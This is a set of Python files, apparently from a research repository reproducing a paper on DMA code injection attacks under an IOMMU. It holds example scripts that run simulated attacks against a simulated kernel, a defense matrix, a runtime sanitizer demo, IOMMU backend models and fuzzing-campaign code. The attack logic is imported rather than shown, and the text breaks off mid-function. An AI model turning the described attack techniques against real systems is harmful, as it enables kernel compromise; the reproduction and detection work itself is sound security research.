def banner(title: str) -> None:
    print(f"\n{'=' * 64}\n{title}\n{'=' * 64}")


def show(report, victim) -> None:
    for line in report.stage_log:
        print(f"  {line}")
    print(f"  attributes:\n{report.attributes.summary()}")
    print(f"  => escalated={report.escalated}, "
          f"uid={victim.executor.creds.uid}, "
          f"victim oopses={victim.stack.stats.oopses}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true",
                        help="skip the defense matrix sweep")
    args = parser.parse_args()

    banner("RingFlood (section 5.3): boot determinism supplies the KVA")
    print("profiling 24 replica boots...")
    profile = profile_replica_boots(24, seed=5, nr_slots=48)
    victim = Kernel(seed=5, boot_index=424)
    nic = victim.add_nic("eth0")
    report = run_ringflood(victim, nic, make_attacker(victim, "eth0"),
                           profile, nr_slots=12)
    show(report, victim)

    banner("Poisoned TX (section 5.4): the echo leaks the KVA")
    victim = Kernel(seed=5, boot_index=31337)  # layout knowledge unused
    nic = victim.add_nic("eth0")
    report = run_poisoned_tx(victim, nic, make_attacker(victim, "eth0"))
    show(report, victim)

    banner("Forward Thinking (section 5.5): GRO + forwarding")
    victim = Kernel(seed=5, boot_index=8, forwarding=True)
    nic = victim.add_nic("eth0")
    report = run_forward_thinking(victim, nic,
                                  make_attacker(victim, "eth0"))
    show(report, victim)

    banner("Blinding bypass (section 7): one XOR reveals the cookie")
    victim = Kernel(seed=5, boot_index=2, forwarding=True,
                    pointer_blinding=True, zerocopy_threshold=512)
    nic = victim.add_nic("eth0")
    report = run_blinding_bypass(victim, nic,
                                 make_attacker(victim, "eth0"))
    show(report, victim)

    if args.quick:
        return
    banner("Defense matrix (sections 7-9)")
    print("running every attack against every defense config "
          "(takes a minute)...")
    cells = evaluate_matrix(STANDARD_CONFIGS, seed=1)
    for row in matrix_rows(cells):
        print(row)
    print("\nblocked-at details:")
    for cell in cells:
        if not cell.escalated and cell.blocked_at:
            print(f"  {cell.config:20s} {cell.attack:18s} "
                  f"{cell.blocked_at[:70]}")


if __name__ == "__main__":
    main()
