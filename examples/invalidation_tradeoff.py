#!/usr/bin/env python3
"""The performance-security tension behind deferred invalidation.

Section 5.2.1: strict mode costs ~2000 cycles per unmap ("in I/O
intensive workloads, the combined cost of IOTLB invalidations can be
prohibitively high"), so Linux defaults to deferred mode -- buying
performance with a ~10 ms window in which unmapped pages remain
device-accessible.

This example sweeps the flush period and measures both sides of the
trade on the same echo workload: invalidation cycles spent per packet
vs. the post-unmap attack window.

Run:  python examples/invalidation_tradeoff.py
"""

from repro.errors import IommuFault
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.stack import ECHO_PORT
from repro.report.tables import render_table
from repro.sim.kernel import Kernel


def run_echo_workload(kernel, nic, nr_packets=200):
    """An echo-heavy workload; every packet is a map+unmap pair."""
    for i in range(nr_packets):
        packet = make_packet(dst_ip=0x0A00_0001, proto=PROTO_UDP,
                             dst_port=ECHO_PORT, flow_id=i,
                             payload=b"load-%04d" % i)
        if not nic.device_receive(packet):
            break
        nic.napi_poll()
        kernel.stack.process_backlog()
        nic.device_fetch_tx()
        nic.tx_clean()
        kernel.advance_time_us(40.0)


def measure_window_ms(mode, flush_period_us=None):
    kwargs = {"iommu_mode": mode}
    if flush_period_us:
        kwargs["flush_period_us"] = flush_period_us
    kernel = Kernel(seed=3, phys_mb=128, **kwargs)
    kernel.iommu.attach_device("probe")
    kva = kernel.slab.kmalloc(512)
    iova = kernel.dma.dma_map_single("probe", kva, 512,
                                     "DMA_FROM_DEVICE")
    kernel.iommu.device_write("probe", iova, b"warm")
    kernel.dma.dma_unmap_single("probe", iova, 512, "DMA_FROM_DEVICE")
    elapsed = 0.0
    while elapsed < 60.0:
        try:
            kernel.iommu.device_write("probe", iova, b"x")
        except IommuFault:
            return elapsed
        kernel.advance_time_ms(0.5)
        elapsed += 0.5
    return elapsed


def main() -> None:
    rows = []
    configs = [("strict", None)] + [
        ("deferred", period) for period in (1_000.0, 5_000.0,
                                            10_000.0, 20_000.0)]
    for mode, period in configs:
        kwargs = {"iommu_mode": mode}
        if period:
            kwargs["flush_period_us"] = period
        kernel = Kernel(seed=3, phys_mb=256, **kwargs)
        nic = kernel.add_nic("eth0")
        before = kernel.iommu.policy.stats.cycles_spent
        run_echo_workload(kernel, nic)
        spent = kernel.iommu.policy.stats.cycles_spent - before
        unmaps = kernel.iommu.policy.stats.unmaps
        window = measure_window_ms(mode, period)
        label = mode if period is None else f"{mode} @{period / 1000:.0f}ms"
        rows.append([label, str(unmaps), f"{spent / max(unmaps, 1):.0f}",
                     f"{window:.1f} ms"])
    print("echo workload: 200 packets (each an RX map/unmap plus a "
          "TX map/unmap)\n")
    print(render_table(
        ["config", "unmaps", "inval cycles/unmap", "attack window"],
        rows))
    print("\nThe paper's tension in one table: every row that makes the "
          "right column safe makes the middle column expensive.")


if __name__ == "__main__":
    main()
