#!/usr/bin/env python3
"""Quickstart: boot a victim, watch the IOMMU work, see it fail.

Walks through the paper's core story in five minutes of API:

1. boot a simulated kernel (memory, KASLR, IOMMU, network stack);
2. run legitimate traffic through the DMA API and the IOMMU;
3. show what page-granular protection exposes (sub-page leak);
4. show the deferred-invalidation window (Figure 6);
5. run the classic single-step attack end to end.

Run:  python examples/quickstart.py
"""

from repro.core.attacks.device import AttackerKnowledge, MaliciousDevice
from repro.core.attacks.singlestep import LegacyCmdDriver, run_single_step
from repro.errors import IommuFault
from repro.mem.phys import PAGE_SIZE
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.stack import ECHO_PORT
from repro.sim.kernel import Kernel


def main() -> None:
    print("=== 1. boot ===")
    kernel = Kernel(seed=7, phys_mb=256)
    nic = kernel.add_nic("eth0")
    print(f"KASLR: text base      {kernel.addr_space.text_base:#x}")
    print(f"       page_offset    {kernel.addr_space.page_offset_base:#x}")
    print(f"IOMMU mode: {kernel.iommu.mode} (the Linux default)")

    print("\n=== 2. legitimate traffic ===")
    packet = make_packet(dst_ip=0x0A00_0001, proto=PROTO_UDP,
                         dst_port=ECHO_PORT, payload=b"hello, iommu")
    nic.device_receive(packet)          # device DMA-writes the packet
    kernel.poll_and_process()           # driver + stack echo it
    [(desc, wire)] = nic.device_fetch_tx()  # device DMA-reads the reply
    nic.tx_clean()
    print(f"echoed through the stack: {wire[16:]!r}")
    print(f"IOMMU translations: {kernel.iommu.stats.device_writes} "
          f"writes, {kernel.iommu.stats.device_reads} reads, "
          f"{kernel.iommu.stats.faults} faults")

    print("\n=== 3. the sub-page problem ===")
    secret = kernel.slab.kmalloc(64)
    kernel.cpu_write(secret, b"kernel secret :(")
    io_buf = kernel.slab.kmalloc(64)     # same slab page!
    iova = kernel.dma.dma_map_single("eth0", io_buf, 64,
                                     "DMA_TO_DEVICE")
    page = kernel.iommu.device_read("eth0", iova & ~(PAGE_SIZE - 1),
                                    PAGE_SIZE)
    print(f"mapped 64 bytes; the device read the whole page and found: "
          f"{page[page.index(b'kernel secret'):][:16]!r}")
    kernel.dma.dma_unmap_single("eth0", iova, 64, "DMA_TO_DEVICE")

    print("\n=== 4. the deferred-invalidation window (Figure 6) ===")
    buf = kernel.slab.kmalloc(128)
    iova = kernel.dma.dma_map_single("eth0", buf, 128,
                                     "DMA_FROM_DEVICE")
    kernel.iommu.device_write("eth0", iova, b"warm")
    kernel.dma.dma_unmap_single("eth0", iova, 128, "DMA_FROM_DEVICE")
    kernel.iommu.device_write("eth0", iova, b"post-unmap write!")
    print("device wrote AFTER dma_unmap_single -- stale IOTLB entry "
          f"(stale translations: {kernel.iommu.stats.stale_translations})")
    kernel.advance_time_ms(11)
    try:
        kernel.iommu.device_write("eth0", iova, b"too late")
    except IommuFault:
        print("after the periodic flush (~10 ms) the same write faults")

    print("\n=== 5. a single-step attack (type (a) driver bug) ===")
    driver = LegacyCmdDriver(kernel)  # maps a struct with a callback
    attacker = MaliciousDevice(
        kernel.iommu, "fw0",
        AttackerKnowledge.from_public_build(kernel.image))
    report = run_single_step(kernel, driver, attacker)
    for line in report.stage_log:
        print(f"  {line}")
    print(f"uid after attack: {kernel.executor.creds.uid} "
          f"(root={kernel.executor.creds.is_root})")


if __name__ == "__main__":
    main()
