#!/usr/bin/env python3
"""D-KASAN in action (the paper's section 4.2 experiment).

Boots an instrumented kernel (the sanitizer subscribes to every
allocator and DMA event), runs the compile+ping workload, and prints
the Figure-3-style report of dynamic sub-page exposures that *no
static tool can see*: random slab co-location, CPU access to mapped
pages, and innocent double mappings.

Run:  python examples/runtime_sanitizer.py
"""

from repro.core.dkasan import DKasan, format_report, format_sample_lines
from repro.sim.kernel import Kernel
from repro.sim.workload import run_compile_and_ping


def main() -> None:
    print("booting an instrumented kernel (D-KASAN as event sink)...")
    dkasan = DKasan(256 << 20)
    kernel = Kernel(seed=9, phys_mb=256, sink=dkasan)
    nic = kernel.add_nic("eth0")

    print("running the workload: compile-path allocation churn under "
          "light echo traffic...")
    stats = run_compile_and_ping(kernel, nic, rounds=40)
    print(f"  {stats.allocations} allocations, {stats.pings} pings, "
          f"{stats.echoes} echoes\n")

    print(format_report(dkasan))

    print("\n--- Figure-3-style sample (first distinct findings) ---")
    for line in format_sample_lines(dkasan.events, limit=8):
        print(line)

    print("\nInterpretation: every [READ]/[WRITE] line is a kernel "
          "object a DMA device could read or corrupt purely because "
          "of page-granular IOMMU protection -- with zero driver bugs "
          "involved.")


if __name__ == "__main__":
    main()
