#!/usr/bin/env python3
"""Watch one RX buffer's whole life through the flight recorder.

The paper's vulnerabilities are all *timelines*: a page is allocated,
mapped, written by the device, unmapped -- and then (deferred mode)
stays device-writable until the next flush-queue drain. ``repro.trace``
records every one of those steps as a typed event stamped from the
simulated clock, so the deferred-invalidation window of Figure 6 can
be read straight off the event stream instead of probed for.

This example traces a short echo workload, prints the tail of the
timeline, and recomputes the invalidation window from the
``iommu/fq_defer`` / ``fq_drain`` event pairs.

Run:  python examples/trace_timeline.py
"""

from repro import trace
from repro.net.proto import PROTO_UDP, make_packet
from repro.net.stack import ECHO_PORT
from repro.report import render_timeline, render_trace_summary
from repro.report.timeline import render_invalidation_report
from repro.sim.kernel import Kernel


def run_echo(kernel, nic, nr_packets=40):
    for i in range(nr_packets):
        packet = make_packet(dst_ip=0x0A00_0001, proto=PROTO_UDP,
                             dst_port=ECHO_PORT, flow_id=i,
                             payload=b"load-%04d" % i)
        if not nic.device_receive(packet):
            break
        nic.napi_poll()
        kernel.stack.process_backlog()
        nic.device_fetch_tx()
        nic.tx_clean()
        kernel.advance_time_us(400.0)
    # cross a full 10 ms flush period so the queued invalidations
    # drain and every window in the trace is closed
    kernel.advance_time_ms(11.0)


def main():
    with trace.session(categories=("dma", "iommu", "net")) as recorder:
        kernel = Kernel(seed=42, phys_mb=256, iommu_mode="deferred",
                        boot_jitter_pages=0, boot_jitter_blocks=0)
        nic = kernel.add_nic("eth0")
        run_echo(kernel, nic)

    print("last 25 events of the recording:")
    print(render_timeline(recorder.events, last=25))
    print()
    print(render_trace_summary(trace.summary_record(recorder)))

    windows = trace.derive_invalidation_windows(recorder.events)
    print(render_invalidation_report(windows))
    print()
    print(f"Figure 6, recomputed from the trace: an unmapped RX "
          f"buffer stayed device-accessible for up to "
          f"{windows.max_ms:.1f} ms.")
    assert windows.nr_windows >= 1
    assert windows.nr_unpaired == 0


if __name__ == "__main__":
    main()
