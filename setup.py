"""Shim for environments without the `wheel` package (offline install).

`pip install -e . --no-build-isolation` needs bdist_wheel; when that is
unavailable, `python setup.py develop` installs the same editable link.
"""
from setuptools import setup

setup()
