"""repro: a full reproduction of "Characterizing, Exploiting, and
Detecting DMA Code Injection Vulnerabilities in the Presence of an
IOMMU" (Markuze et al., EuroSys '21).

Public entry points:

* :class:`repro.sim.kernel.Kernel` -- boot a simulated victim machine
  (memory, KASLR, IOMMU, DMA API, network stack).
* :class:`repro.core.spade.Spade` -- the static analyzer, over the
  synthetic Linux-5.0-shaped corpus from :mod:`repro.corpus`.
* :class:`repro.core.dkasan.DKasan` -- the runtime sanitizer; pass it
  as the kernel's event sink.
* :mod:`repro.core.attacks` -- the single-step baseline and the
  compound attacks (RingFlood, Poisoned TX, Forward Thinking,
  surveillance, blinding bypass).
* :mod:`repro.core.defenses` -- strict invalidation, bounce buffers,
  DAMN-style segregation, pointer blinding, CET; plus the
  attack-vs-defense evaluation matrix.
"""

from repro.sim.kernel import Kernel
from repro.core.vulns import SubPageVulnerability, VulnType
from repro.core.attributes import VulnerabilityAttributes

__version__ = "1.10.0"

__all__ = [
    "Kernel",
    "SubPageVulnerability",
    "VulnType",
    "VulnerabilityAttributes",
    "__version__",
]
