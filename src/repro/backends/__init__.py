"""repro.backends: pluggable multi-IOMMU backend models.

A backend is a frozen :class:`~repro.backends.spec.IommuBackend`
describing one hardware model's IOTLB geometry, invalidation
granularity and cost, deferred-flush cadence, and IOVA-allocator
quirks. The registry ships four models:

* ``intel-vtd`` -- the paper's platform; the default. Its parameters
  are the constants the simulator used before backends existed, so
  runs with the flag omitted (or set to ``intel-vtd``) reproduce all
  pre-backend digests, traces, and exports byte-identically.
* ``arm-smmuv3`` -- set-associative TLB, ranged TLBI drains.
* ``amd-vi`` -- FIFO IOTLB, slower domain-wide drains, no IOVA reuse.
* ``virtio-iommu`` -- paravirtual, synchronous unmaps, no window.

Every ``--backend`` consumer resolves names through
:func:`get_backend`, so an unknown name produces one shared
:class:`~repro.errors.BackendError` (CLI exit 2, serve protocol
error).
"""

from __future__ import annotations

from repro.backends.models import (ALL_BACKENDS, AMD_VI, ARM_SMMUV3,
                                   INTEL_VTD, VIRTIO_IOMMU)
from repro.backends.spec import (INVALIDATION_GRANULARITIES,
                                 INVALIDATION_MODES, IommuBackend,
                                 REPLACEMENT_POLICIES)
from repro.errors import BackendError

#: Name of the backend used when no ``--backend`` is given anywhere.
DEFAULT_BACKEND_NAME = INTEL_VTD.name

#: The default backend spec (the paper's Intel VT-d model).
DEFAULT_BACKEND = INTEL_VTD

_REGISTRY: dict[str, IommuBackend] = {
    backend.name: backend for backend in ALL_BACKENDS}


def backend_names() -> tuple[str, ...]:
    """All registered backend names, sorted."""
    return tuple(sorted(_REGISTRY))


def get_backend(name: str) -> IommuBackend:
    """Look a backend up by name; raises :class:`BackendError`."""
    backend = _REGISTRY.get(name)
    if backend is None:
        choices = ", ".join(backend_names())
        raise BackendError(
            f"unknown IOMMU backend {name!r} (choose from {choices})")
    return backend


def resolve_backend(value: str | IommuBackend | None) -> IommuBackend:
    """Coerce ``None`` / a name / a spec to a spec.

    ``None`` means "the default": the Intel VT-d model whose behavior
    is byte-identical to the pre-backend simulator.
    """
    if value is None:
        return DEFAULT_BACKEND
    if isinstance(value, IommuBackend):
        return value
    return get_backend(value)


def backend_label(value: str | IommuBackend | None) -> str | None:
    """The name to stamp on records/metrics/traces, or ``None``.

    Default-backend runs return ``None`` so their artifacts carry no
    backend annotations at all -- that is what keeps pre-backend
    digests, Prometheus exports, and BENCH signatures byte-identical.
    """
    spec = resolve_backend(value)
    return None if spec.name == DEFAULT_BACKEND_NAME else spec.name


def parse_backends(csv: str) -> list[str]:
    """Parse a ``--backends a,b,...`` list into validated names.

    Raises :class:`BackendError` for unknown names, duplicates, or
    fewer than two distinct backends (a cross-backend differential
    needs something to differ).
    """
    names = [name.strip() for name in csv.split(",") if name.strip()]
    seen: list[str] = []
    for name in names:
        canonical = get_backend(name).name
        if canonical in seen:
            raise BackendError(
                f"duplicate backend {canonical!r} in --backends")
        seen.append(canonical)
    if len(seen) < 2:
        raise BackendError(
            "--backends needs at least two distinct backends "
            f"(got {csv!r})")
    return seen


__all__ = [
    "ALL_BACKENDS", "AMD_VI", "ARM_SMMUV3", "BackendError",
    "DEFAULT_BACKEND", "DEFAULT_BACKEND_NAME", "INTEL_VTD",
    "INVALIDATION_GRANULARITIES", "INVALIDATION_MODES", "IommuBackend",
    "REPLACEMENT_POLICIES", "VIRTIO_IOMMU", "backend_label",
    "backend_names", "get_backend", "parse_backends", "resolve_backend",
]
