"""The four concrete IOMMU backend models.

``intel-vtd`` is the paper's platform and the repo default: its
parameters are the exact constants the simulator hardcoded before
backends existed, so every pre-backend digest, trace, metric export,
and BENCH signature reproduces byte-identically under it.

The other three are grounded in public documentation and the related
work in PAPERS.md (the ARMv8 remote-DMA thesis for SMMU-class
hardware, the ``iommu: model-name: virtio|intel|smmuv3`` hardware
axis in the related repos). They are models, not cycle-accurate
emulations: each one changes only the axes the spec names, with
values chosen to keep the cross-backend differences observable in
the Fig 6/7 experiments.
"""

from __future__ import annotations

from repro.backends.spec import IommuBackend

#: Intel VT-d: the paper's platform. Fully-associative 4096-entry
#: LRU IOTLB, ~2000-cycle invalidations (section 5.2.1), Linux's
#: 10 ms deferred flush queue draining with a domain-wide
#: invalidation, 48-bit IOVA space with per-size free-list caching.
INTEL_VTD = IommuBackend(
    name="intel-vtd",
    description=("Intel VT-d (the paper's platform, repo default): "
                 "4096-entry fully-associative LRU IOTLB, domain-wide "
                 "flush-queue drains every 10ms, 48-bit IOVA space "
                 "with free-list caching"),
    iotlb_capacity=4096,
    iotlb_associativity=None,
    iotlb_replacement="lru",
    invalidation_granularity="domain",
    invalidation_cycles=2000,
    default_mode="deferred",
    flush_period_us=10_000.0,
    iova_limit=1 << 48,
    iova_free_cache=True,
)

#: ARM SMMUv3: smaller set-associative TLB, drains issue one batched
#: ``TLBI`` range invalidation over exactly the queued pages (so
#: unrelated hot entries survive a drain), 44-bit IOVA space.
ARM_SMMUV3 = IommuBackend(
    name="arm-smmuv3",
    description=("ARM SMMUv3: 1024-entry 8-way LRU TLB, ranged TLBI "
                 "drains that invalidate only the queued pages, "
                 "44-bit IOVA space"),
    iotlb_capacity=1024,
    iotlb_associativity=8,
    iotlb_replacement="lru",
    invalidation_granularity="range",
    invalidation_cycles=1500,
    default_mode="deferred",
    flush_period_us=10_000.0,
    iova_limit=1 << 44,
    iova_free_cache=True,
)

#: AMD-Vi: small FIFO IOTLB, domain-wide INVALIDATE_IOMMU_PAGES on a
#: slower drain cadence, and no IOVA free-list caching (allocations
#: march monotonically down from the limit), so stale windows last
#: up to twice as long as on VT-d.
AMD_VI = IommuBackend(
    name="amd-vi",
    description=("AMD-Vi: 512-entry FIFO IOTLB, domain-wide drains "
                 "every 20ms (double the VT-d window), monotonic IOVA "
                 "allocation without free-list reuse"),
    iotlb_capacity=512,
    iotlb_associativity=None,
    iotlb_replacement="fifo",
    invalidation_granularity="domain",
    invalidation_cycles=2500,
    default_mode="deferred",
    flush_period_us=20_000.0,
    iova_limit=1 << 48,
    iova_free_cache=False,
)

#: virtio-iommu: paravirtual. Every unmap is a synchronous UNMAP
#: request to the host (vmexit-priced, hence the large cycle cost),
#: so the default mode is strict and there is *no* deferred window;
#: the tiny TLB models the host-side shadow cache.
VIRTIO_IOMMU = IommuBackend(
    name="virtio-iommu",
    description=("virtio-iommu: paravirtual; synchronous vmexit-priced "
                 "per-page UNMAP requests (strict by default, no "
                 "deferred window), 256-entry 4-way LRU shadow TLB, "
                 "39-bit IOVA space"),
    iotlb_capacity=256,
    iotlb_associativity=4,
    iotlb_replacement="lru",
    invalidation_granularity="page",
    invalidation_cycles=12_000,
    default_mode="strict",
    flush_period_us=10_000.0,
    iova_limit=1 << 39,
    iova_free_cache=True,
)

ALL_BACKENDS = (INTEL_VTD, ARM_SMMUV3, AMD_VI, VIRTIO_IOMMU)
