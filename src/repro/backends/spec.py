"""The IOMMU backend spec: one frozen dataclass per hardware model.

The paper characterizes the vulnerability windows of one Intel
VT-d-like IOMMU, but the exposure is a function of parameters that
differ across real IOMMUs: IOTLB capacity/associativity/replacement,
the granularity of deferred-drain invalidations (per-page vs ranged
vs domain-wide), the deferred-flush cadence, and IOVA-allocator
quirks. :class:`IommuBackend` captures exactly those axes so the
simulator core can be parameterized instead of hardcoded.
"""

from __future__ import annotations

from dataclasses import asdict, dataclass

#: Legal IOTLB replacement policies.
REPLACEMENT_POLICIES = ("lru", "fifo")

#: Legal deferred-drain invalidation granularities.
#:
#: * ``"domain"`` -- the drain issues one domain-wide invalidation
#:   (Linux's VT-d flush queue behavior): every cached entry drops.
#: * ``"range"``  -- the drain issues one batched range invalidation
#:   covering exactly the queued pages (SMMUv3 ``TLBI`` + sync).
#: * ``"page"``   -- the drain invalidates each queued page
#:   individually, paying the invalidation cost per page.
INVALIDATION_GRANULARITIES = ("page", "range", "domain")

#: Legal default invalidation modes.
INVALIDATION_MODES = ("strict", "deferred")


@dataclass(frozen=True)
class IommuBackend:
    """Immutable description of one IOMMU hardware model.

    ``iotlb_associativity`` is the number of ways per set; ``None``
    means fully associative (one set holding the whole capacity).
    """

    name: str
    description: str
    iotlb_capacity: int
    iotlb_associativity: int | None
    iotlb_replacement: str
    invalidation_granularity: str
    invalidation_cycles: int
    default_mode: str
    flush_period_us: float
    iova_limit: int
    iova_free_cache: bool

    def __post_init__(self) -> None:
        if not self.name:
            raise ValueError("backend name must be non-empty")
        if self.iotlb_capacity <= 0:
            raise ValueError(
                f"backend {self.name}: bad IOTLB capacity "
                f"{self.iotlb_capacity}")
        ways = self.iotlb_associativity
        if ways is not None and (ways <= 0 or self.iotlb_capacity % ways):
            raise ValueError(
                f"backend {self.name}: associativity {ways} does not "
                f"divide capacity {self.iotlb_capacity}")
        if self.iotlb_replacement not in REPLACEMENT_POLICIES:
            raise ValueError(
                f"backend {self.name}: unknown replacement policy "
                f"{self.iotlb_replacement!r}")
        if self.invalidation_granularity not in INVALIDATION_GRANULARITIES:
            raise ValueError(
                f"backend {self.name}: unknown invalidation granularity "
                f"{self.invalidation_granularity!r}")
        if self.invalidation_cycles <= 0:
            raise ValueError(
                f"backend {self.name}: bad invalidation cost "
                f"{self.invalidation_cycles}")
        if self.default_mode not in INVALIDATION_MODES:
            raise ValueError(
                f"backend {self.name}: unknown default mode "
                f"{self.default_mode!r}")
        if self.flush_period_us <= 0:
            raise ValueError(
                f"backend {self.name}: bad flush period "
                f"{self.flush_period_us}")
        if self.iova_limit <= 0:
            raise ValueError(
                f"backend {self.name}: bad IOVA limit {self.iova_limit:#x}")

    def to_json(self) -> dict:
        """Plain-dict form with deterministic, JSON-safe values."""
        return asdict(self)
