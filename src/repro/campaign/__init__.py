"""repro.campaign: parallel differential fuzzing campaigns.

Pits SPADE (static) against D-KASAN (dynamic) over many mutated
corpora with per-call-site ground truth, at corpus scale:

* :class:`~repro.campaign.mutate.CorpusMutator` -- randomized driver
  trees derived from :mod:`repro.corpus`, manifests kept exact;
* :func:`~repro.campaign.oracle.run_differential` -- score both
  detectors against one tree's ground truth;
* :func:`~repro.campaign.runner.run_campaign` -- fan seed batches out
  over warm worker processes sharing one base-corpus snapshot, with
  per-seed timeouts, crash capture, JSONL streaming, and resume;
* :func:`~repro.campaign.shard.run_sharded_campaign` -- scale past one
  process tree: independent runners claim seed ranges from a dir-based
  work queue and a merge step folds the shards back together;
* :func:`~repro.campaign.shrink.shrink_seed` -- ddmin a disagreeing
  seed's mutations down to a minimal reproducing tree.
"""

from repro.campaign.differential import (BACKEND_DISAGREEMENT_KINDS,
                                         MultiBackendSummary,
                                         backend_results_path,
                                         cross_backend_disagreements,
                                         cross_results_path,
                                         format_multi_backend_summary,
                                         run_multi_backend_campaign)
from repro.campaign.mutate import (MUTATION_KINDS, CorpusMutator,
                                   MutatedCorpus, Mutation)
from repro.campaign.oracle import (Disagreement, DetectorScore,
                                   DifferentialResult, run_differential)
from repro.campaign.results import (CampaignSummary, format_summary,
                                    load_records, summarize)
from repro.campaign.runner import CampaignConfig, run_campaign, run_seed
from repro.campaign.shard import (Shard, format_seed_ranges,
                                  merge_shards, missing_seeds_message,
                                  plan_shards, run_sharded_campaign,
                                  shard_results_path)
from repro.campaign.shrink import ShrinkResult, shrink_seed

__all__ = [
    "MUTATION_KINDS", "CorpusMutator", "MutatedCorpus", "Mutation",
    "Disagreement", "DetectorScore", "DifferentialResult",
    "run_differential", "CampaignSummary", "format_summary",
    "load_records", "summarize", "CampaignConfig", "run_campaign",
    "run_seed", "ShrinkResult", "shrink_seed",
    "BACKEND_DISAGREEMENT_KINDS", "MultiBackendSummary",
    "backend_results_path", "cross_backend_disagreements",
    "cross_results_path", "format_multi_backend_summary",
    "run_multi_backend_campaign", "Shard", "format_seed_ranges",
    "merge_shards", "missing_seeds_message",
    "plan_shards", "run_sharded_campaign", "shard_results_path",
]
