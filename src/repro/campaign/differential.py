"""Cross-backend differential campaigns.

``repro-dma campaign --backends a,b,...`` runs every seed against each
IOMMU backend model and diffs the per-backend results. Two kinds of
backend-dependent disagreement become first-class oracle outcomes:

* ``backend-window`` -- a site's post-unmap vulnerability window is
  open on one backend and closed on another (deferred flush cadence /
  drain granularity dependent): the paper's Fig 6 exposure turning on
  and off with the hardware model.
* ``backend-verdict`` -- SPADE-vs-D-KASAN verdicts for a site differ
  across backends (a detector's blind spot is platform-dependent).

Each backend's records land in their own JSONL
(``<stem>.<backend>.jsonl``), so every record stays replayable with
``run_seed(seed, backend=...)`` and per-backend findings digests stay
meaningful; the cross-backend disagreement records land in
``<stem>.cross.jsonl``.
"""

from __future__ import annotations

import json
import os
from collections import Counter
from dataclasses import dataclass, field, replace

from repro import backends as backend_registry
from repro import metrics
from repro.campaign.results import (CampaignSummary, findings_digest,
                                    load_records)
from repro.campaign.runner import CampaignConfig, run_campaign
from repro.coverage import CoverageMap, coverage_map_path
from repro.errors import CampaignError
from repro.report.tables import render_table

#: cross-backend disagreement kinds (the new oracle outcomes)
BACKEND_DISAGREEMENT_KINDS = ("backend-window", "backend-verdict")


def backend_results_path(output: str, backend_name: str) -> str:
    """Per-backend results file: ``campaign/x.jsonl`` ->
    ``campaign/x.<backend>.jsonl``."""
    stem, ext = os.path.splitext(output)
    return f"{stem}.{backend_name}{ext or '.jsonl'}"


def cross_results_path(output: str) -> str:
    stem, ext = os.path.splitext(output)
    return f"{stem}.cross{ext or '.jsonl'}"


def _window_map(record: dict) -> dict[str, bool]:
    """Per-site window observations; default-backend records carry
    none -- their replay runs strict, so every window is closed."""
    return {str(site): bool(open_) for site, open_
            in record.get("window_sites", {}).items()}


def _verdict_map(record: dict) -> dict[str, str]:
    return {f"{d['path']}:{d['line']}": d["verdict"]
            for d in record.get("disagreements", ())}


def cross_backend_disagreements(
        records_by_backend: dict[str, dict[int, dict]]) -> list[dict]:
    """Diff per-backend record sets into disagreement records.

    Only seeds completed on *every* backend are compared (a seed that
    failed somewhere has nothing sound to diff). Window maps treat an
    absent site as "closed" -- that is exactly what the default
    backend's strict replay observes.
    """
    names = sorted(records_by_backend)
    if len(names) < 2:
        return []
    common = None
    for name in names:
        done = {seed for seed, record in records_by_backend[name].items()
                if record.get("status") == "ok"}
        common = done if common is None else common & done
    out: list[dict] = []
    for seed in sorted(common or ()):
        seed_records = {name: records_by_backend[name][seed]
                        for name in names}
        window_maps = {name: _window_map(record)
                       for name, record in seed_records.items()}
        sites: set[str] = set()
        for window_map in window_maps.values():
            sites |= window_map.keys()
        for site in sorted(sites):
            values = {name: window_maps[name].get(site, False)
                      for name in names}
            if len(set(values.values())) > 1:
                path, _, line = site.rpartition(":")
                out.append({"kind": "backend-window", "seed": seed,
                            "path": path, "line": int(line),
                            "site": site, "windows": values})
        verdict_maps = {name: _verdict_map(record)
                        for name, record in seed_records.items()}
        verdict_sites: set[str] = set()
        for verdict_map in verdict_maps.values():
            verdict_sites |= verdict_map.keys()
        for site in sorted(verdict_sites):
            verdicts = {name: verdict_maps[name].get(site)
                        for name in names}
            if len(set(verdicts.values())) > 1:
                out.append({"kind": "backend-verdict", "seed": seed,
                            "site": site, "verdicts": verdicts})
    return out


@dataclass
class MultiBackendSummary:
    """Aggregate of one ``--backends`` campaign."""

    backends: list[str]
    summaries: dict[str, CampaignSummary]
    digests: dict[str, str]
    outputs: dict[str, str]
    cross: list[dict] = field(default_factory=list)
    cross_output: str | None = None

    @property
    def all_ok(self) -> bool:
        return all(summary.all_ok for summary in self.summaries.values())

    @property
    def nr_cross(self) -> int:
        return len(self.cross)


def run_multi_backend_campaign(
        config: CampaignConfig, backend_names: list[str], *,
        progress=None, heartbeat=None) -> MultiBackendSummary:
    """Run the same seed set against every backend and diff.

    *progress*, if given, is called as ``progress(backend, record)``.
    The per-backend sub-campaigns share ``config``'s cache directory
    (SPADE analysis is backend-independent, so the cache stays hot
    across backends).
    """
    specs = [backend_registry.get_backend(name) for name in backend_names]
    if len({spec.name for spec in specs}) < 2:
        raise CampaignError(
            "a cross-backend campaign needs at least two distinct "
            f"backends, got {backend_names!r}")
    if not config.output:
        raise CampaignError(
            "a cross-backend campaign needs an --output stem for its "
            "per-backend results files")

    summaries: dict[str, CampaignSummary] = {}
    digests: dict[str, str] = {}
    outputs: dict[str, str] = {}
    records_by_backend: dict[str, dict[int, dict]] = {}
    for spec in specs:
        sub = replace(
            config,
            backend=backend_registry.backend_label(spec),
            output=backend_results_path(config.output, spec.name))
        sub_progress = None
        if progress is not None:
            sub_progress = (lambda record, _name=spec.name:
                            progress(_name, record))
        summaries[spec.name] = run_campaign(sub, progress=sub_progress,
                                            heartbeat=heartbeat)
        records = {seed: record
                   for seed, record in load_records(sub.output).items()
                   if seed in set(config.seeds)}
        records_by_backend[spec.name] = records
        digests[spec.name] = findings_digest(records)
        outputs[spec.name] = sub.output

    if config.coverage:
        # one combined CoverageMap across every backend lane (each
        # lane's own map already rides beside its results file): the
        # cross-backend feature-set diff `coverage diff` consumes
        combined = CoverageMap()
        for name in sorted(records_by_backend):
            combined.merge(
                CoverageMap.from_records(records_by_backend[name]))
        combined.save(coverage_map_path(config.output))

    cross = cross_backend_disagreements(records_by_backend)
    cross_output = cross_results_path(config.output)
    parent = os.path.dirname(cross_output)
    if parent:
